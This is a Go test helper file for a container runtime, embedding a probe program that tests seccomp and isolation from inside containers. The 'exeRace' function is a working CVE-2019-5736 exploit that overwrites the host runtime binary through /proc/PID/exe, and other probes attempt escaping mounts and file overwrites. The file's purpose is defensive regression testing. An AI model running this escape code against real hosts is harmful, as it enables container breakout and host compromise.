package runtime_test

import (
	"crypto/sha256"
	"encoding/hex"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	specs "github.com/opencontainers/runtime-spec/specs-go"
)

// probeSource is a tiny static program put in containers as /bin/probe.
// Each subcommand makes one system call (or a short attack) and prints
// "ok" or "errno=N", so tests see exactly what the kernel and the seccomp
// filter answered, which busybox alone cannot tell.
const probeSource = `package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func report(err error) {
	if err == nil {
		fmt.Println("ok")
		return
	}
	if e, ok := err.(syscall.Errno); ok {
		fmt.Printf("errno=%d\n", int(e))
		return
	}
	fmt.Println("error:", err)
}

func errOf(r1 uintptr, e syscall.Errno) error {
	if e != 0 {
		return e
	}
	return nil
}

func num(s string) uintptr {
	if n, err := strconv.ParseInt(s, 0, 64); err == nil {
		return uintptr(n)
	}
	n, err := strconv.ParseUint(s, 0, 64)
	if err != nil {
		panic(err)
	}
	return uintptr(n)
}

func main() {
	a := os.Args[1:]
	switch a[0] {
	case "keyctl": // KEYCTL_GET_KEYRING_ID of the session keyring
		r, _, e := syscall.Syscall(syscall.SYS_KEYCTL, 0, ^uintptr(2), 0)
		report(errOf(r, e))
	case "personality":
		r, _, e := syscall.Syscall(syscall.SYS_PERSONALITY, num(a[1]), 0, 0)
		report(errOf(r, e))
	case "mkdir":
		report(syscall.Mkdir(a[1], 0o755))
	case "syscall": // syscall NR [args...]: every argument a number
		var args [6]uintptr
		for i, v := range a[2:] {
			args[i] = num(v)
		}
		r, _, e := syscall.Syscall6(num(a[1]), args[0], args[1], args[2], args[3], args[4], args[5])
		report(errOf(r, e))
	case "unshare":
		report(syscall.Unshare(int(num(a[1]))))
	case "mount":
		report(syscall.Mount("tmpfs", a[1], "tmpfs", 0, ""))
	case "openw":
		fd, err := syscall.Open(a[1], syscall.O_WRONLY, 0)
		if err == nil {
			_, err = syscall.Write(fd, []byte("pwned"))
			syscall.Close(fd)
		}
		report(err)
	case "exe-race":
		exeRace(a[1], a[2])
	case "nested-mount":
		nestedMount()
	case "nested-mount-child":
		for _, m := range [][2]string{{"proc", "/tmp"}, {"sysfs", "/run"}} {
			fmt.Print(m[0], " ")
			report(syscall.Mount(m[0], m[1], m[0], 0, ""))
		}
	default:
		fmt.Println("unknown probe", a[0])
		os.Exit(2)
	}
}

// nestedMount starts itself in new user, mount, pid and network
// namespaces, as their root, to mount a fresh procfs and sysfs: the
// kernel allows that only while the mount namespace holds a fully
// visible one of each (none of the container's masked ones is).
func nestedMount() {
	attr := &syscall.ProcAttr{Files: []uintptr{0, 1, 2}, Sys: &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWPID | syscall.CLONE_NEWNET,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}}
	pid, err := syscall.ForkExec("/proc/self/exe", []string{"probe", "nested-mount-child"}, attr)
	if err != nil {
		fmt.Println("nested namespaces:", err)
		os.Exit(1)
	}
	var ws syscall.WaitStatus
	syscall.Wait4(pid, &ws, 0, nil)
}

// exeRace is the CVE-2019-5736 attack: keep an O_PATH descriptor on the
// executable of every process whose exe looks like the runtime, then,
// until the stop file appears, try to reopen each for writing and write.
// It records how far it got in the result file at once and after every
// change, since the container may be torn down under it.
func exeRace(stop, result string) {
	self := strconv.Itoa(os.Getpid())
	held := map[string]int{}
	seen, opened, written := 0, 0, 0
	var last error
	save := func() {
		msg := fmt.Sprintf("seen=%d opened=%d written=%d last=%v\n", seen, opened, written, last)
		os.WriteFile(result+".tmp", []byte(msg), 0o644)
		os.Rename(result+".tmp", result)
	}
	save()
	for {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		before := [3]int{seen, opened, written}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid := e.Name()
			if pid == self || pid[0] < '0' || pid[0] > '9' {
				continue
			}
			if _, ok := held[pid]; ok {
				continue
			}
			fd, err := syscall.Open("/proc/"+pid+"/exe", 0x200000|0x80000, 0)
			if err != nil {
				last = err
				continue
			}
			target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			if !strings.Contains(target, "berth") {
				syscall.Close(fd)
				continue
			}
			seen++
			held[pid] = fd
		}
		for _, fd := range held {
			w, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(fd), syscall.O_WRONLY|0x80000, 0)
			if err != nil {
				last = err
				continue
			}
			opened++
			if _, err := syscall.Write(w, []byte("#!/bin/sh\necho pwned\n")); err == nil {
				written++
			} else {
				last = err
			}
			syscall.Close(w)
		}
		if before != [3]int{seen, opened, written} {
			save()
		}
		time.Sleep(time.Millisecond)
	}
	save()
}
`

// buildProbe compiles probeSource statically into dir/probe.
func buildProbe(t *testing.T, dir string) string {
	t.Helper()
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skipf("no go toolchain to build the probe: %v", err)
	}
	src := t.TempDir()
	if err := os.WriteFile(filepath.Join(src, "main.go"), []byte(probeSource), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "probe")
	cmd := exec.Command(goBin, "build", "-o", out, "main.go")
	cmd.Dir = src
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=", "GO111MODULE=on", "GOWORK=off")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build probe: %v\n%s", err, b)
	}
	return out
}

// probes holds the probe built for each test, which copies it into
// each of its bundles.
var probes sync.Map // *testing.T -> path

// probeBundle is e.bundle with the probe installed as /bin/probe.
func (e *env) probeBundle(args []string, mod func(*specs.Spec)) string {
	e.t.Helper()
	b := e.bundle(args, mod)
	p, ok := probes.Load(e.t)
	if !ok {
		p = buildProbe(e.t, e.t.TempDir())
		probes.Store(e.t, p)
		e.t.Cleanup(func() { probes.Delete(e.t) })
	}
	data, err := os.ReadFile(p.(string))
	if err != nil {
		e.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(b, "rootfs", "bin", "probe"), data, 0o755); err != nil {
		e.t.Fatal(err)
	}
	return b
}

// runBundle runs a bundle in the foreground and returns its stdout,
// failing the test on a non-zero exit.
func (e *env) runBundle(b string) string {
	e.t.Helper()
	r := e.run("run", "--bundle", b, e.id())
	if r.code != 0 {
		e.t.Fatalf("run: exit %d: %s%s", r.code, r.err, r.out)
	}
	return r.out
}

// createFails runs create on b, which must fail with a one-line error
// mentioning want and exit code 1, and leave no state behind.
func (e *env) createFails(b, want string) result {
	e.t.Helper()
	id := e.id()
	r := e.fails(want, "create", "--bundle", b, id)
	if r.code != 1 {
		e.t.Errorf("exit code %d, want 1", r.code)
	}
	if msg := strings.TrimSpace(r.err); strings.Contains(msg, "\n") {
		e.t.Errorf("error is not one line: %q", r.err)
	}
	e.noState(id)
	if out := e.must("list", "-q"); strings.Contains(out, id) {
		e.t.Errorf("container %s listed after a failed create: %q", id, out)
	}
	return r
}

// fileHash returns the SHA-256 of a file.
func fileHash(t *testing.T, path string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// readHost reads a host file, failing the test if it cannot.
func readHost(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
